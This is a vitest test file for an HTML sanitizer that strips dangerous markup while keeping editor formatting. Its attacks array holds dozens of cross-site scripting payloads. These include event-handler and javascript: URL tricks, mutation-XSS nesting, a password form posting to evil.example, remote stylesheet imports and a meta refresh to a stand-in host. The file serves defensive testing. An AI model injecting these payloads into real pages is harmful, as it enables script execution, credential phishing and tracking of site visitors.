import { describe, expect, test } from 'vitest'
import { cleanHtml, digestSanitizedHtml, safeHtml } from './safe-html.ts'

const pixel = 'data:image/png;base64,iVBORw0KGgo='

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  `<img src="${pixel}${'A'.repeat(20_000)}">`,
  '<img src="http://tracker.example/pixel.gif">',
  '<img src="//tracker.example/pixel.gif">',
  '<img src="https://tracker.example/pixel.gif">',
  '<img src="/uploads/a.webp" srcset="https://tracker.example/pixel.gif 2x" sizes="1px">',
  '<img srcset="javascript:alert(1) 2x" src="/a.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="x" onclick="alert(1)" style="position:fixed" id="root" name="root">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name="password"><button>ok</button></form>',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<p style="background:url(javascript:alert(1))" class="splash modal">x</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="https://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p lang=\'en" onmouseover="alert(1)\'>x</p>',
  '<td lang="x>y<script>alert(1)</script>">x</td>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<img src="/a.png" width="1" height="expression(alert(1))" alt="&quot; onload=&quot;alert(1)">',
]

/** Lists every start tag with its attributes, as a browser parses well-formed HTML. */
function listTags(html: string): { tag: string; attributes: Map<string, string> }[] {
  return [...html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[a-z-]+="[^"]*")*)\s*\/?>/g)].map(
    ([, tag = '', attributes = '']) => ({
      tag,
      attributes: new Map(
        [...attributes.matchAll(/([a-z-]+)="([^"]*)"/g)].map(([, name = '', value = '']) => [name, value]),
      ),
    }),
  )
}

const dangerous =
  /^(script|style|svg|math|iframe|object|embed|form|input|button|link|meta|base|template|noscript|video|audio)$/

describe('safeHtml neutralizes attacks', () => {
  test.each(attacks)('safeHtml neutralizes %s', (attack) => {
    const safe = safeHtml(attack)
    const tags = listTags(safe)
    expect(safe.match(/<[a-z]/gi) ?? [], 'nothing is a tag but what reads as one').toHaveLength(tags.length)
    for (const { tag, attributes } of tags) {
      expect(tag).not.toMatch(dangerous)
      expect([...attributes.keys()].filter((name) => /^on|^style$|^srcset$|^id$|^name$/.test(name))).toEqual([])
      if (tag === 'img') expect(attributes.get('src') ?? '').not.toMatch(/^https?:/)
      const address = attributes.get('href') ?? attributes.get('src') ?? '/'
      expect(address).toMatch(/^(?:https:\/\/|data:image\/png;base64,|(?![/\\]{2})[^:]*$)/)
    }
  })

  test.each(attacks)('safeHtml neutralizes a second time %s', (attack) => {
    const once = safeHtml(attack)
    expect(safeHtml(once)).toBe(once)
  })
})

describe('safeHtml keeps what editors use', () => {
  const allowed = [
    '<h2>Title</h2><h3>Part</h3><h4>Detail</h4>',
    '<p><strong>a</strong> <b>b</b> <em>c</em> <i>d</i> <s>e</s> <u>f</u> m<sup>2</sup> H<sub>2</sub>O <code>g</code></p>',
    '<ul><li>one<ul><li>inner</li></ul></li></ul><ol start="3"><li>three</li></ol>',
    '<blockquote><p>Worked example</p></blockquote><hr /><p>a<br />b</p>',
    '<p class="formula"><b>DHU</b> <span class="operator">=</span> <span class="fraction"><span>a</span><span class="visually-hidden"> ÷ </span><span>b</span></span></p>',
    '<p><a href="/formulas/7">calculator</a> <a href="mailto:a@example.com">mail</a> <a href="tel:+8801700000000">call</a></p>',
    '<p>5 &lt; 6 &amp; 7 &gt; 6</p>',
    '<p lang="en">named</p>',
  ]
  test.each(allowed)('safeHtml keeps %s', (html) => {
    expect(safeHtml(html)).toBe(html)
  })

  test("safeHtml lowers headings below the page's title", () => {
    expect(safeHtml('<h1>a</h1><h5>b</h5><h6>c</h6>')).toBe('<h2>a</h2><h4>b</h4><h4>c</h4>')
  })

  test('safeHtml renames the classes of formulas that an earlier version saved', () => {
    expect(
      safeHtml(
        '<p class="formula"><span class="op">=</span> <span class="frac">a<span class="vh"> ÷ </span></span></p>',
      ),
    ).toBe(
      '<p class="formula"><span class="operator">=</span> <span class="fraction">a<span class="visually-hidden"> ÷ </span></span></p>',
    )
    expect(safeHtml('<span class="constructor">a</span>')).toBe('<span>a</span>')
  })

  test('safeHtml adds rel="noopener noreferrer" to links to other sites', () => {
    expect(safeHtml('<a href="https://example.com" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="https://example.com" rel="noopener noreferrer">x</a>',
    )
  })

  test('safeHtml makes preformatted text scrollable by itself and by keyboard', () => {
    const framed = '<pre class="scroll" role="group" aria-label="Text" tabindex="0">  drawn  </pre>'
    expect(safeHtml('<pre>  drawn  </pre>')).toBe(framed)
    expect(safeHtml(framed)).toBe(framed)
  })

  test('safeHtml marks a picture without alt text as decorative', () => {
    expect(safeHtml('<img src="/a.png">')).toContain('alt=""')
    expect(safeHtml('<img src="/a.png" alt="A stitch">')).toContain('alt="A stitch"')
  })

  test('safeHtml makes pictures load lazily and keeps their size', () => {
    const picture =
      '<img src="/uploads/a.png" alt="A stitch" width="640" height="256" loading="lazy" decoding="async" />'
    expect(safeHtml('<img src="/uploads/a.png" alt="A stitch" width="640" height="256">')).toBe(picture)
    expect(safeHtml(picture)).toBe(picture)
  })

  test('safeHtml offers an uploaded picture in its widths with root-relative URLs', () => {
    const stem = 'uploads/line-0123456789abcdef0123'
    const safe = safeHtml(`<img src="${stem}_640x480.webp" alt="A line">`)
    expect(safe).toBe(
      `<img src="/${stem}_640x480.webp" alt="A line" width="640" height="480" srcset="/${stem}_320x240.webp 320w, /${stem}_640x480.webp 640w" sizes="(min-width: 44rem) 40rem, 92vw" loading="lazy" decoding="async" />`,
    )
    expect(safeHtml(safe)).toBe(safe)
  })

  test('safeHtml allows a small picture as a data URL', () => {
    expect(safeHtml(`<img src="${pixel}">`)).toContain(`src="${pixel}"`)
  })

  test('safeHtml wraps a table in a scrollable region once', () => {
    const table =
      '<table><thead><tr><th align="right" scope="col">a</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>'
    const framed = `<div class="scroll" role="group" aria-label="Table" tabindex="0">${table}</div>`
    expect(safeHtml(table)).toBe(framed)
    expect(safeHtml(framed)).toBe(framed)
  })
})

describe('safeHtml with a sanitizer version', () => {
  const clean = cleanHtml('<p>Lay the <b>fabric</b></p><table><tr><td>1</td></tr></table>')

  test('safeHtml returns marked HTML as if it were sanitized again', () => {
    expect(safeHtml(clean, digestSanitizedHtml(clean))).toBe(safeHtml(clean))
  })

  test('safeHtml skips the sanitizer only for HTML with a matching mark', () => {
    const hostile = '<p onclick="alert(1)">x</p><script>alert(1)</script>'
    // The mark belongs to this exact text, which no save would produce.
    expect(safeHtml(hostile, digestSanitizedHtml(hostile))).toContain('onclick')
    for (const mark of [null, '', 'x', digestSanitizedHtml(clean), digestSanitizedHtml(`${hostile} `)]) {
      expect(safeHtml(hostile, mark), String(mark)).toBe('<p>x</p>')
    }
  })

  test('safeHtml returns the plain text of stored HTML that nests too deep', () => {
    expect(safeHtml(`${'<b>'.repeat(100_000)}deep <script>alert(1)</script>`)).not.toMatch(/[<>]/)
  })
})
